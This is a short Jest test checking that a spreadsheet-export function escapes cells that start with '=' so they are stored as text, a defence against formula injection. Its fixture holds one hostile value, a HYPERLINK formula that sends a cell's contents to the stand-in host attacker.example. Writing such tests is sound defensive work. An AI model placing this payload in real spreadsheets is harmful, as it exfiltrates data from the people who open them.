import * as XLSX from 'sheetjs-style';
import { cardToXls } from './xls';

describe('cardToXls', () => {
  it('writes a name that a spreadsheet would run as a formula as text; numbers stay numbers', async () => {
    const toSheet = jest.spyOn(XLSX.utils, 'aoa_to_sheet');
    await cardToXls([
      ['Visitors by gate'],
      ['Name', 'Details', 'COUNT'],
      ['=HYPERLINK("http://attacker.example/?x="&A2,"Details")', '-', -3],
    ]);
    expect(toSheet.mock.calls[0]?.[0]).toEqual([
      ['Visitors by gate'],
      ['Name', 'Details', 'COUNT'],
      ['\'=HYPERLINK("http://attacker.example/?x="&A2,"Details")', '-', -3],
    ]);
  });
});
